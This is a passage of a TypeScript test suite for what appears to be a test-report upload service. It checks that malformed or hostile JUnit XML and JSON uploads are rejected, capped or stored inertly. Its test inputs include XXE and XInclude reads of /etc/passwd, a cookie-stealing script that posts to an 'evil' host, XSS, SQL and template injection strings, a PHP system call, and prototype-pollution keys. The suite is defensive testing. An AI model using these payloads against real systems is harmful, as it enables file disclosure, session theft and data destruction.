    { name: "mismatched attribute quotes", body: () => `<testsuite name="s'><testcase name="a"/></testsuite>`, reason: NOT_WELL_FORMED },
    { name: "'<' inside an attribute value", body: () => '<testsuite name="a<b"/>', reason: NOT_WELL_FORMED },
    { name: "duplicate attribute", body: () => '<testsuite name="a" name="b"/>', reason: NOT_WELL_FORMED },
    { name: "character reference to a lone surrogate (&#xD800;)", body: () => oneCase("", 'name="a&#xD800;"'), reason: NOT_WELL_FORMED },
    { name: "character reference to a non-character (&#xFFFE;)", body: () => oneCase("", 'name="a&#xFFFE;"'), reason: NOT_WELL_FORMED },
    {
      name: "UTF-16 without a BOM (NUL bytes everywhere)",
      body: () => new Uint8Array(Buffer.from(xml, "utf16le")),
      reason: NOT_WELL_FORMED,
    },
    {
      name: "UTF-16 declared over ASCII bytes",
      body: () => {
        const text = `<?xml version="1.0" encoding="utf-16"?>${xml}`;
        return text.length % 2 === 0 ? text : `${text} `;
      },
      reason: NOT_WELL_FORMED,
    },
    { name: "a JSON document sent as XML", body: () => JSON.stringify({ suites: [{ name: "s" }] }), reason: NOT_WELL_FORMED },
    { name: "whitespace only", body: () => "   \n\t ", reason: /not well-formed.*root element/ },
    { name: "a comment and no root", body: () => "<!-- nothing here -->", reason: /not well-formed.*root element/ },
    {
      name: "root element <html>",
      body: () => "<html><body><script>alert(1)</script></body></html>",
      reason: "The root element is <html>",
    },
    {
      name: "root element <svg onload>",
      body: () => '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      reason: "The root element is <svg>",
    },
    {
      // Past the first parser slice, so earlier suites' rows are already streaming to the database (COPY on Postgres).
      name: "malformed after 9,000 cases in complete suites (nothing of them kept)",
      body: () =>
        `<testsuites>${Array.from({ length: 6 }, (_, i) => manyCases(1_500, `s${i}`)).join("")}<testsuite name="last"><testcase</testsuites>`,
      reason: NOT_WELL_FORMED,
    },
    {
      name: "second junit_xml document malformed (nothing of the first kept)",
      body: () => ({ junit_xml: [manyCases(50), "<testsuite>"] }),
      reason: NOT_WELL_FORMED,
    },
    {
      name: `${REPORT_LIMITS.maxSuites + 1} suites`,
      body: () => `<testsuites>${"<testsuite/>".repeat(REPORT_LIMITS.maxSuites + 1)}</testsuites>`,
      reason: `more than ${REPORT_LIMITS.maxSuites} test suites`,
    },
  ];

  describe("content problems: 202, then failed with a reason, nothing kept", () => {
    readable.it.each(FAILED)("$name", async (row) => {
      const p = await fresh();
      const res = await send(p, row);
      if (await refusedOverLimit(p, overLimit(row), res)) return;
      await expectFailed(p, res, row.reason);
    });

    large.it(`${REPORT_LIMITS.maxCases + 1} cases fail the run on the case limit`, async () => {
      expect(REPORT_LIMITS.maxCases).toBe(500_000);
      const p = await fresh();
      const body = manyCases(REPORT_LIMITS.maxCases + 1);
      const res = await h.upload(p.token, body);
      if (await refusedOverLimit(p, enc(body).length > h.uploadLimitBytes, res)) return;
      await expectFailed(p, res, `more than ${REPORT_LIMITS.maxCases} test cases`);
    });

    it("nothing was fetched and no secret leaked through entities", async () => {
      expect(canaryHits).toEqual([]);
      const everything = JSON.stringify(
        await h.db
          .select()
          .from(testCases)
          .where(
            inArray(testCases.testRunId, h.db.select({ id: testRuns.id }).from(testRuns).where(inArray(testRuns.projectId, projectIds))),
          ),
      );
      const runs = JSON.stringify(await h.db.select().from(testRuns).where(inArray(testRuns.projectId, projectIds)));
      for (const secret of SECRETS) {
        expect(everything).not.toContain(secret);
        expect(runs).not.toContain(secret);
        expect(h.logs.join("\n")).not.toContain(secret);
      }
    });
  });

  // ---------------------------------------------------------------------------------------------
  // Hostile but readable content: processed, stored capped and inert.

  type ProcessedUpload = Upload & { name: string; check: (r: Processed) => void | Promise<void> };

  const ONE_MB = 1024 * 1024;
  const ESC = "\u001b";
  const onlyCase = (r: Processed) => {
    expect(r.cases).toHaveLength(1);
    return r.cases[0]!;
  };

  const PROCESSED: ProcessedUpload[] = [
    {
      name: "processing instructions (stylesheet, php) before the root and inside a case",
      body: () =>
        `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canaryUrl}/evil.xsl"?><testsuite name="s"><?php system('id'); ?><testcase name="a"><?target data?></testcase></testsuite>`,
      check: (r) => {
        expect(r.run.tests_count).toBe(1);
        expect(onlyCase(r).status).toBe("passed");
      },
    },
    {
      name: "XInclude of /etc/passwd and a schemaLocation over http (not processed)",
      body: () =>
        `<testsuite name="s" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${canaryUrl}/schema.xsd">` +
        `<testcase name="a"><failure xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/><xi:include href="${canaryUrl}/inc" parse="text"/></failure></testcase></testsuite>`,
      check: (r) => {
        const c = onlyCase(r);
        expect(c.status).toBe("failed");
        expect(c.failureMessage).toBeNull();
      },
    },
    {
      name: "a DOCTYPE and entities inside CDATA are just text",
      body: () => oneCase(`<failure><![CDATA[<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;]]></failure>`),
      check: (r) => expect(onlyCase(r).failureMessage).toBe('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;'),
    },
    {
      name: "1 MB name, classname, file and failure type attributes (capped)",
      body: () => {
        const big = (c: string) => c.repeat(ONE_MB);
        return `<testsuite name="${big("S")}"><testcase name="${big("N")}" classname="${big("C")}" file="${big("F")}"><error type="${big("T")}" message="m"/></testcase></testsuite>`;
      },
      check: (r) => {
        const c = onlyCase(r);
        expect(r.suites[0]!.name).toBe("S".repeat(REPORT_LIMITS.maxNameLength));
        expect(c.name).toBe("N".repeat(REPORT_LIMITS.maxNameLength));
        expect(c.classname).toBe("C".repeat(REPORT_LIMITS.maxNameLength));
        expect(c.file).toBe("F".repeat(REPORT_LIMITS.maxNameLength));
        expect(c.failureType).toBe("T".repeat(REPORT_LIMITS.maxNameLength));
        expect(c.status).toBe("errored");
      },
    },
    {
      name: "5 MB failure message attribute (capped)",
      body: () => oneCase(`<failure message="${"M".repeat(5 * ONE_MB)}"/>`),
      check: (r) => expect(onlyCase(r).failureMessage).toBe("M".repeat(REPORT_LIMITS.maxMessageLength)),
    },
    {
      name: "5 MB failure message as element text (capped)",
      body: () => oneCase(`<failure>${"m".repeat(5 * ONE_MB)}</failure>`),
      check: (r) => expect(onlyCase(r).failureMessage).toBe("m".repeat(REPORT_LIMITS.maxMessageLength)),
    },
    {
      name: "10 MB system-out and 10 MB CDATA system-err (capped)",
      body: () =>
        oneCase(`<system-out>${"o".repeat(10 * ONE_MB)}</system-out><system-err><![CDATA[${"e".repeat(10 * ONE_MB)}]]></system-err>`),
      check: (r) => {
        const c = onlyCase(r);
        expect(c.systemOut).toBe("o".repeat(REPORT_LIMITS.maxOutputLength));
        expect(c.systemErr).toBe("e".repeat(REPORT_LIMITS.maxOutputLength));
      },
    },
    {
      name: "UTF-16LE with BOM",
      body: () =>
        concat(
          [0xff, 0xfe],
          Buffer.from(
            `<?xml version="1.0" encoding="UTF-16"?><testsuite name="Ünïcødé ✓"><testcase name="日本語 😀"/></testsuite>`,
            "utf16le",
          ),
        ),
      check: (r) => {
        expect(r.suites[0]!.name).toBe("Ünïcødé ✓");
        expect(onlyCase(r).name).toBe("日本語 😀");
      },
    },
    {
      name: "UTF-16BE with BOM",
      body: () =>
        concat(
          [0xfe, 0xff],
          utf16be(`<?xml version="1.0" encoding="UTF-16"?><testsuite name="Ωmega"><testcase name="λ → 😀"/></testsuite>`),
        ),
      check: (r) => {
        expect(r.suites[0]!.name).toBe("Ωmega");
        expect(onlyCase(r).name).toBe("λ → 😀");
      },
    },
    {
      name: "UTF-8 with BOM",
      body: () => concat([0xef, 0xbb, 0xbf], enc('<testsuite name="bom"><testcase name="ça"/></testsuite>')),
      check: (r) => expect(onlyCase(r).name).toBe("ça"),
    },
    {
      name: "ISO-8859-1 declared (latin-1 bytes)",
      body: () =>
        new Uint8Array(
          Buffer.from(
            `<?xml version="1.0" encoding="ISO-8859-1"?><testsuite name="café"><testcase name="naïve façade ÿ"><failure message="Größe ±5°"/></testcase></testsuite>`,
            "latin1",
          ),
        ),
      check: (r) => {
        expect(r.suites[0]!.name).toBe("café");
        const c = onlyCase(r);
        expect(c.name).toBe("naïve façade ÿ");
        expect(c.failureMessage).toBe("Größe ±5°");
      },
    },
    {
      name: "windows-1252 declared (0x80 is the euro sign)",
      body: () =>
        concat(
          enc(`<?xml version='1.0' encoding='windows-1252'?><testsuite name="s"><testcase name="`),
          [0x80, 0x20, 0x93, 0x71, 0x94],
          enc('"/></testsuite>'),
        ),
      check: (r) => expect(onlyCase(r).name).toBe("€ “q”"),
    },
    {
      name: "raw NUL bytes in names and messages (→ U+FFFD)",
      body: () =>
        `<testsuite name="s\u0000s"><testcase name="a\u0000b"><failure message="x\u0000y">t\u0000t</failure><system-out>o\u0000o</system-out></testcase></testsuite>`,
      check: (r) => {
        expect(r.suites[0]!.name).toBe("s\uFFFDs");
        const c = onlyCase(r);
        expect(c.name).toBe("a\uFFFDb");
        expect(c.failureMessage).toBe("x\uFFFDy");
        expect(c.systemOut).toBe("o\uFFFDo");
      },
    },
    {
      name: "NUL as character references &#0; and &#x0000; (→ U+FFFD)",
      body: () => oneCase(`<failure>t&#x0000;t</failure><system-out>&#0;&#00;</system-out>`, 'name="a&#0;b"'),
      check: (r) => {
        const c = onlyCase(r);
        expect(c.name).toBe("a\uFFFDb");
        expect(c.failureMessage).toBe("t\uFFFDt");
        expect(c.systemOut).toBe("\uFFFD\uFFFD");
      },
    },
    {
      name: "raw ANSI escape codes and other C0 controls (→ U+FFFD, text kept)",
      body: () =>
        oneCase(
          `<failure message="${ESC}[31mexpected${ESC}[0m \u0001\u0008\u000b\u000c\u001f"/><system-out>${ESC}[1mbold${ESC}[22m\u007f</system-out>`,
        ),
      check: (r) => {
        const c = onlyCase(r);
        expect(c.failureMessage).toBe("\uFFFD[31mexpected\uFFFD[0m \uFFFD\uFFFD\uFFFD\uFFFD\uFFFD");
        expect(c.systemOut).toBe("\uFFFD[1mbold\uFFFD[22m\u007f");
        expect(c.status).toBe("failed");
      },
    },
    {
      name: "ANSI escapes as character references &#27; and &#x1B; (→ U+FFFD, text kept)",
      body: () => oneCase(`<failure message="&#27;[31mred&#x1B;[0m &#x1b;[32mgreen&#027;[0m"/>`),
      check: (r) => expect(onlyCase(r).failureMessage).toBe("\uFFFD[31mred\uFFFD[0m \uFFFD[32mgreen\uFFFD[0m"),
    },
    {
      name: "JSON: ANSI escapes kept as is, NUL → U+FFFD",
      body: () => ({
        suites: [
          {
            name: "s\u0000",
            cases: [{ name: "a\u0000b", status: "failed", failure_message: `${ESC}[31mred${ESC}[0m\u0000`, system_out: `${ESC}[1m\u0007` }],
          },
        ],
      }),
      check: async (r) => {
        expect(r.suites[0]!.name).toBe("s\uFFFD");
        const c = onlyCase(r);
        expect(c.name).toBe("a\uFFFDb");
        expect(c.failureMessage).toBe(`${ESC}[31mred${ESC}[0m\uFFFD`);
        expect(c.systemOut).toBe(`${ESC}[1m\u0007`);
        const res = await apiCases(r);
        expect(res.body.data[0].failure_message).toBe(`${ESC}[31mred${ESC}[0m\uFFFD`);
        expect(res.text).toContain("\\u001b[31mred");
      },
    },
    {
      name: "JSON: lone surrogates everywhere (→ U+FFFD)",
      body: () => ({
        branch: "feature-\ud800",
        build_id: "\udfff",
        tags: ["\udc00tag", "ok"],
        suites: [
          {
            name: "suite \udbff",
            cases: [
              {
                name: "a\ud800b",
                classname: "\udc00",
                file: "f\ud800.ts",
                status: "failed",
                failure_type: "\ud800",
                failure_message: "x\ud800",
                system_out: "\udfff out",
                system_err: "\ud83d",
                attempts: [{ status: "errored", failure_message: "\ud800 first" }],
              },
            ],
          },
        ],
      }),
      check: (r) => {
        expect(r.run.branch).toBe("feature-\uFFFD");
        expect(r.run.build_id).toBe("\uFFFD");
        expect(r.run.tags).toEqual(["\uFFFDtag", "ok"]);
        expect(r.suites[0]!.name).toBe("suite \uFFFD");
        const c = onlyCase(r);
        expect(c).toMatchObject({
          name: "a\uFFFDb",
          classname: "\uFFFD",
          file: "f\uFFFD.ts",
          failureType: "\uFFFD",
          failureMessage: "x\uFFFD",
          systemOut: "\uFFFD out",
          systemErr: "\uFFFD",
        });
        expect(c.attempts).toEqual([{ status: "errored", duration_ms: null, failure_message: "\uFFFD first" }]);
      },
    },
    {
      name: "HTML and <script> in XML names and messages (plain text, JSON strings)",
      body: () =>
        `<testsuite name="&lt;script&gt;alert(1)&lt;/script&gt;"><testcase name="&lt;img src=x onerror=alert(1)&gt;" classname="&quot;&gt;&lt;svg onload=alert(1)&gt;">` +
        `<failure message="&lt;/textarea&gt;&lt;script&gt;alert(document.cookie)&lt;/script&gt;"/><system-out><![CDATA[<script>fetch('//evil/'+document.cookie)</script>]]></system-out></testcase></testsuite>`,
      check: async (r) => {
        expect(r.suites[0]!.name).toBe("<script>alert(1)</script>");
        const res = await apiCases(r);
        expect(res.body.data[0]).toMatchObject({
          name: "<img src=x onerror=alert(1)>",
          classname: '"><svg onload=alert(1)>',
          failure_message: "</textarea><script>alert(document.cookie)</script>",
          system_out: "<script>fetch('//evil/'+document.cookie)</script>",
        });
        expect(res.text).toContain('"name":"<img src=x onerror=alert(1)>"');
        const suites = await h.get(`/api/v1/projects/${r.p.projectId}/test_runs/${r.number}/test_suites`, apiKey);
        expectJsonAnswer(suites);
        expect(suites.body.data[0].name).toBe("<script>alert(1)</script>");
      },
    },
    {
      name: "HTML, template and SQL injection strings in JSON names and metadata (stored verbatim)",
      body: () => ({
        branch: "<script>alert(1)</script>",
        build_id: "'; DROP TABLE test_runs; --",
        tags: ["{{constructor.constructor('alert(1)')()}}", "${7*7}"],
        suites: [
          {
            name: "<b onmouseover=alert(1)>s</b>",
            cases: [{ name: "<iframe src=javascript:alert(1)>", status: "failed", failure_message: "Robert'); DROP TABLE test_cases;--" }],
          },
        ],
      }),
      check: async (r) => {
        expect(r.run).toMatchObject({
          branch: "<script>alert(1)</script>",
          build_id: "'; DROP TABLE test_runs; --",
          tags: ["{{constructor.constructor('alert(1)')()}}", "${7*7}"],
        });
        const res = await apiCases(r);
        expect(res.body.data[0]).toMatchObject({
          name: "<iframe src=javascript:alert(1)>",
          failure_message: "Robert'); DROP TABLE test_cases;--",
        });
        const one = await h.get(`/api/v1/test_cases/${res.body.data[0].id}`, apiKey);
        expectJsonAnswer(one);
        expect(one.body.name).toBe("<iframe src=javascript:alert(1)>");
      },
    },
    {
      name: "JSON: __proto__, constructor and prototype keys at every level (ignored)",
      contentType: "application/json",
      body: () => `{
      "__proto__": {"polluted": "envelope", "suites": [{"name": "injected"}], "branch": "from-proto"},
      "constructor": {"prototype": {"polluted": "envelope-constructor"}},
      "prototype": {"polluted": "envelope-prototype"},
      "tags": ["__proto__", "constructor", "prototype"],
      "suites": [{
        "__proto__": {"polluted": "suite", "cases": [{"name": "injected", "status": "errored"}]},
        "constructor": {"prototype": {"polluted": "suite-constructor"}},
        "prototype": {"polluted": "suite-prototype"},
        "name": "__proto__",
        "cases": [{
          "__proto__": {"polluted": "case", "status": "errored", "failure_message": "from proto"},
          "constructor": {"prototype": {"polluted": "case-constructor"}},
          "prototype": {"polluted": "case-prototype"},
          "name": "constructor", "classname": "prototype", "status": "passed",
          "attempts": [{"__proto__": {"polluted": "attempt"}, "constructor": {"prototype": {"polluted": "attempt-constructor"}}, "prototype": {}, "status": "failed", "failure_message": "__proto__"}]
        }],
        "suites": [{"__proto__": {"polluted": "nested"}, "constructor": {"name": "x"}, "name": "prototype"}]
      }]
    }`,
      check: (r) => {
        expect(({} as Record<string, unknown>).polluted).toBeUndefined();
        expect(r.run.branch).toBeNull();
        expect(r.run.tags).toEqual(["__proto__", "constructor", "prototype"]);
        expect(r.suites.map((s) => s.name)).toEqual(["__proto__", "prototype"]);
        const c = onlyCase(r);
        expect(c).toMatchObject({ name: "constructor", classname: "prototype", status: "passed", failureMessage: null });
        expect(c.attempts).toEqual([{ status: "failed", duration_ms: null, failure_message: "__proto__" }]);
      },
    },
    {
      name: "XML: elements and attributes named constructor, __proto__, toString… in a case",
      body: () =>
        '<testsuite name="__proto__"><testcase name="constructor" classname="__proto__" __proto__="x" constructor="y"><constructor/><__proto__/><toString/><valueOf/><hasOwnProperty/></testcase>' +
        '<testcase name="prototype"><constructor><failure message="nested, not an outcome"/></constructor><failure message="real"/></testcase></testsuite>',
      check: (r) => {
        expect(r.cases.map((c) => [c.name, c.classname, c.status, c.failureMessage, c.attempts])).toEqual([
          ["constructor", "__proto__", "passed", null, []],
          ["prototype", null, "failed", "real", []],
        ]);
      },
    },
    {
      name: "query parameters named __proto__ and constructor (ignored)",
      body: () => xml,
      query: "__proto__=x&constructor=y&toString=z&hasOwnProperty=w&__proto__[branch]=p&tags=a",
      check: (r) => {
        expect(r.run.tags).toEqual(["a"]);
        expect(r.run.branch).toBeNull();
        expect(({} as Record<string, unknown>).branch).toBeUndefined();
      },
    },
    {
      name: "invalid percent-encoding in query metadata (kept literally)",
      body: () => xml,
      query: "branch=%FF%FE&build_id=%ED%A0%80",
      check: (r) => expect(r.run).toMatchObject({ branch: "%FF%FE", build_id: "%ED%A0%80" }),
    },
    {
      name: "hostile time values (1e309, -1, NaN, Infinity, 0x10)",
      body: () =>
        `<testsuites time="1e309"><testsuite name="s" time="NaN"><testcase name="a" time="1e309"/><testcase name="b" time="-1"/><testcase name="c" time="Infinity"/><testcase name="d" time="0x10"/><testcase name="e" time="99999999999"/></testsuite></testsuites>`,
      check: (r) => {
        expect(r.cases.map((c) => c.durationMs)).toEqual([null, null, null, 16_000, null]);
        expect(r.suites[0]!.durationMs).toBeNull();
      },
    },
    {
      name: "JSON suites nested exactly 64 levels (the limit)",
      body: () => ({ suites: [deepSuites(REPORT_LIMITS.maxDepth)] }),
      check: (r) => {
        expect(r.suites).toHaveLength(REPORT_LIMITS.maxDepth);
        expect(r.run.tests_count).toBe(1);
      },
    },
    {
      name: "gzip with an uppercase Content-Encoding and a charset parameter",
      body: () => gzip(xml),
      contentType: "Application/XML; charset=utf-8",
      headers: { "content-encoding": "GZIP" },
      check: (r) => expect(onlyCase(r).name).toBe("a"),
    },
    {
      name: "retry storm: 10,000 entries of the same test (attempts capped)",
      body: () => {
        const parts = ['<testsuite name="storm">'];
        for (let i = 0; i < 9_999; i++)
          parts.push(`<testcase classname="c" name="same" time="0.001"><failure message="try ${i}"/></testcase>`);
        parts.push('<testcase classname="c" name="same" time="0.002"/></testsuite>');
        return parts.join("");
      },
      check: (r) => {
        const c = onlyCase(r);
        expect(r.run).toMatchObject({ tests_count: 1, passed_count: 1, failed_count: 0 });
        expect(c.status).toBe("passed");
        expect(c.attempts).toHaveLength(REPORT_LIMITS.maxAttempts);
        expect(c.attempts[0]!.failure_message).toBe(`try ${9_999 - REPORT_LIMITS.maxAttempts}`);
        expect(c.attempts.at(-1)!.failure_message).toBe("try 9998");
      },
    },
    {
      name: "retry storm: 10,000 <flakyFailure> in one case (attempts capped)",
      body: () =>
        oneCase(
          Array.from({ length: 10_000 }, (_, i) => `<flakyFailure message="flake ${i}"><stackTrace>at x</stackTrace></flakyFailure>`).join(
            "",
          ),
        ),
      check: (r) => {
        const c = onlyCase(r);
        expect(c.status).toBe("passed");
        expect(c.attempts).toHaveLength(REPORT_LIMITS.maxAttempts);
      },
    },
  ];

  describe("hostile but readable content: processed, capped, inert", () => {
    it.each(PROCESSED.filter((row) => LARGE_ROWS.includes(row.name) === (part === "large")))("$name", async (row) => {
      const p = await fresh();
      const res = await send(p, row);
      if (await refusedOverLimit(p, overLimit(row), res)) return;
      await row.check(await expectProcessed(p, res));
    });

    large.it("100,000 cases are processed", { timeout: 120_000 }, async () => {
      const p = await fresh();
      const body = manyCases(100_000);
      const res = await h.upload(p.token, body);
      if (await refusedOverLimit(p, enc(body).length > h.uploadLimitBytes, res)) return;
      const r = await expectProcessed(p, res, 110_000);
      expect(r.run).toMatchObject({ tests_count: 100_000, passed_count: 100_000, result: "tests_passed" });
      expect(r.cases).toHaveLength(100_000);
      expect(r.suites).toHaveLength(1);
      expect(r.suites[0]!.testsCount).toBe(100_000);
    });
  });

  // ---------------------------------------------------------------------------------------------

  describe("afterwards", () => {
    it("no run stayed pending, no payload is left, nothing was fetched, nothing crashed, no prototype was polluted", async () => {
      const runs = await h.db.select().from(testRuns).where(inArray(testRuns.projectId, projectIds));
      expect(runs.length).toBeGreaterThan(0);
      expect(runs.filter((r) => r.status === "pending")).toEqual([]);
      expect(
        await h.db
          .select({ id: uploadPayloads.testRunId })
          .from(uploadPayloads)
          .where(
            inArray(
              uploadPayloads.testRunId,
              runs.map((r) => r.id),
            ),
          ),
      ).toEqual([]);
      expect(canaryHits).toEqual([]);
      const logs = h.logs.join("\n");
      expect(logs).not.toContain("unhandled error");
      expect(logs).not.toContain("run processing");
      for (const secret of SECRETS) expect(logs).not.toContain(secret);
      expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeKeysBefore);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(Object.hasOwn(Object.prototype, "polluted")).toBe(false);
    });
  });
}
